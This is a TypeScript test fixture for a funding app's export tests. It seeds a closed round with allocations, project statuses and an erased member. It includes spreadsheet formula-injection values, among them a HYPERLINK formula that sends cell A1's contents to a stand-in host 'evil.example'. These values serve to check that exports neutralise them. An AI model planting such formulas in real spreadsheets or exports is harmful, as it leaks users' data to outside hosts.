// Test support for the exports tests: a round after its close, built
// through the real allocation endpoint and the ledger's own functions.
import { sql } from 'drizzle-orm';
import { expect } from 'vitest';
import { majorUnits } from '@cagnotte/shared';
import type { TestContext } from './harness.ts';
import type { Member } from './given.ts';
import { grant, returnBucketAllocations } from '../src/features/ledger/index.ts';

export const INJECTED_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
export const INJECTED_NAME = '-Bob';
export const INJECTED_REASON = '@SUM(1+1) yearly top-up';
/** A Paris winter instant, to check the offset written. */
export const WINTER_INSTANT = '2026-11-24T09:15:00Z';

/** A small seeded generator (mulberry32), so that a failure can be replayed. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let x = a;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

/**
 * Eight members, eight open projects (min 200.00, max 400.00): targeted allocations (one a paper
 * vote entered by the admin), a grant top-up, then many random allocations through
 * `PUT /api/buckets/:id/allocation`; then the statuses a close would give, money returned where
 * a project may hold none. Plus a draft, a rejected project, an erased member, and text a
 * spreadsheet would run as a formula.
 */
export async function closedRound(t: TestContext, options: { seed?: number; allocations?: number } = {}) {
  const lines = [
    { label: 'Essential', amountCents: 20_000, essential: true },
    { label: 'Extra', amountCents: 20_000, essential: false },
  ];
  const { admin, round, members, buckets } = await t.given.fundingRound({ members: 8, buckets: 8, lines });
  const accountant = await t.given.member({ organisationId: admin.organisationId, role: 'accountant' });
  const [b0, b1, b2, b3, b4, b5, b6, b7] = buckets as [typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number]];
  const m = (i: number) => members[i] as Member;

  // Targeted first, while every allowance is whole.
  await t.allocate(admin, b4.id, 3_333, { memberId: m(0).membershipId }).expect(200);
  await t.allocate(m(1), b4.id, 2_000).expect(200);
  await t.allocate(m(2), b5.id, 1_505).expect(200);
  await t.allocate(m(3), b6.id, 4_000).expect(200);
  await t.allocate(m(4), b6.id, 1_234).expect(200);
  await t.db.transaction((tx) =>
    grant(tx, { round, membershipId: m(0).membershipId, deltaCents: 10_050, enteredBy: admin.membershipId, reason: INJECTED_REASON }),
  );

  const rand = random(options.seed ?? 20261124);
  const targets = [b0, b1, b2, b3, b7];
  for (let i = 0; i < (options.allocations ?? 60); i++) {
    const member = m(Math.floor(rand() * members.length));
    const bucket = targets[Math.floor(rand() * targets.length)]!;
    const amount = rand() < 0.1 ? 0 : 1 + Math.floor(rand() * 12_000);
    const res = await t.allocate(member, bucket.id, amount);
    expect([200, 409]).toContain(res.status);
  }

  // The close: projects that reached their minimum are funded (the first one even completed),
  // the others wait for the board; one open project stays open (a permanent round's).
  const funded = async (id: string) => Number((await t.db.execute(sql`SELECT funded_cents FROM buckets WHERE id = ${id}`)).rows[0]?.funded_cents);
  for (const [i, bucket] of [b0, b1, b2, b3].entries()) {
    const reached = (await funded(bucket.id)) >= 20_000;
    const status = !reached ? 'awaiting_board' : i === 0 ? 'completed' : 'funded';
    await t.db.execute(sql`UPDATE buckets SET status = ${status}, funding_ended_at = now() WHERE id = ${bucket.id}`);
  }
  await t.db.execute(sql`UPDATE buckets SET status = 'awaiting_board', funding_ended_at = now() WHERE id = ${b4.id}`);
  for (const [bucket, status, reason] of [[b5, 'not_funded', 'minimum missed'], [b6, 'withdrawn', 'withdrawn by its proposers']] as const) {
    await t.db.transaction(async (tx) => {
      await returnBucketAllocations(tx, { bucketId: bucket.id, roundId: round.id, enteredBy: null, reason });
      await tx.execute(sql`UPDATE buckets SET status = ${status}, funding_ended_at = now() WHERE id = ${bucket.id}`);
    });
  }

  await t.given.bucket(round.id, admin, { status: 'draft', title: 'A private draft' });
  await t.given.bucket(round.id, admin, { status: 'rejected', title: 'Rejected before funding' });
  await t.db.execute(sql`UPDATE buckets SET title = ${INJECTED_TITLE} WHERE id = ${b1.id}`);
  await t.db.execute(sql`UPDATE buckets SET created_at = ${WINTER_INSTANT}::timestamptz WHERE id = ${b2.id}`);
  await t.db.execute(sql`UPDATE memberships SET name = ${INJECTED_NAME} WHERE id = ${m(6).membershipId}`);
  // As the erase route leaves it for someone in no other organisation.
  await t.db.execute(sql`UPDATE memberships SET name = 'Erased member', active = false, deactivated_at = now(), erased_at = now() WHERE id = ${m(7).membershipId}`);
  await t.db.execute(sql`UPDATE people SET name = 'Erased member', email = NULL, erased_at = now() WHERE id = ${m(7).personId}`);

  return { admin, accountant, round, members, buckets: { b0, b1, b2, b3, b4, b5, b6, b7 } };
}

/** "1234,56" (French) or "1234.56" → 123456 cents, refusing anything but exact major units. */
export function centsOf(text: string, separator: ',' | '.'): number {
  const match = new RegExp(`^(-?)(\\d+)\\${separator}(\\d{2})$`).exec(text);
  if (!match) throw new Error(`not an amount in major units: ${JSON.stringify(text)}`);
  const cents = Number(match[2]) * 100 + Number(match[3]);
  return match[1] ? -cents : cents;
}

/** What exceljs writes for an exact amount: the shortest decimal text of major units. */
export const shortestMajor = (cents: number) => majorUnits(cents, 'EUR', 'en').replace(/\.?0+$/, '') || '0';
